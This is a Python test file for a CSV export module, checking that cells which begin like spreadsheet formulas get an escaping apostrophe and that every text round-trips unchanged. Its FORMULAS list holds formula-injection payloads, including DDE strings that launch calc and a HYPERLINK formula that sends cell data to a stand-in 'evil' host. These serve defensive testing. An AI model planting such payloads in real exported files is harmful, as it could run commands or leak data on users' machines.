"""Text cells: no spreadsheet runs one, and every text comes back as it was."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lk_graphql.tabular.delimited_text import Header, read_records
from lk_graphql.tabular.spreadsheet_cells import cell_of, csv_line, escape_cell, unescape_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+7+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "\t=1+1",
    "\rtext",
    "\ntext",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "' \"'=1+1",
    "«=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "-5.00",
    "+79161234567",
]
UNTOUCHED = [
    "",
    "'",
    "''",
    "Иванова",
    "О'Нил",
    "'Ромашка'",
    "0801",
    "a=b",
    "5-6",
    "кв. 3;4",
    "a\nb",
]
SIGNS = st.sampled_from([*"=+-@\t\r\n;\"' 0aЯ#", "\r\n", "NULL", "#N/A", "\u00a0", "\ufeff", "1;2"])
TEXTS = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")),
    st.lists(SIGNS, max_size=12).map("".join),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str):
    assert escape_cell(text) == f"'{text}"
    assert unescape_cell(f"'{text}") == text


@pytest.mark.parametrize("text", UNTOUCHED)
def test_any_other_text_stays_as_it_is(text: str):
    assert escape_cell(text) == text
    assert unescape_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-5.00"), "-5.00"),
        (-3, "-3"),
        (None, None),
        (date(2026, 11, 22), "2026-11-22"),
        (datetime(2026, 11, 22, 12, tzinfo=UTC), "2026-11-22T12:00:00+00:00"),
    ],
)
def test_numbers_and_days_are_no_texts(value: object, cell: str | None):
    assert cell_of(value) == cell


def test_text_marks_of_spreadsheets_are_removed():
    assert [unescape_cell(cell) for cell in ("'0801", '="0801"', "'-5", "'Ромашка'")] == [
        "0801",
        "0801",
        "-5",
        "'Ромашка'",
    ]


@given(TEXTS)
def test_no_marked_text_begins_like_a_formula(text: str):
    cell = escape_cell(text)
    assert cell[:1] not in {*"\t\r\n"}
    assert cell.strip().strip('" ')[:1] not in {*"=+-@"}


@example("'=1")
@example("''0801")
@given(TEXTS)
def test_every_text_comes_back(text: str):
    assert unescape_cell(escape_cell(text)) == text


@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=5))
def test_every_file_is_read_as_it_was_written(rows: list[tuple[str, str, str]]):
    """By the reader of imports, and by any other that follows RFC 4180."""
    content = b"".join(
        [csv_line("abc"), *(csv_line(map(escape_cell, row)) for row in rows)]
    ).decode()

    records = read_records(StringIO(content, newline=""), Header(1, ";", ("a", "b", "c")))
    ours = [tuple(map(unescape_cell, record.cells or [])) for record in records]
    theirs = [*csv.reader(StringIO(content, newline=""), delimiter=";", strict=True)][1:]

    assert ours == rows
    assert [tuple(map(unescape_cell, cells)) for cells in theirs] == rows
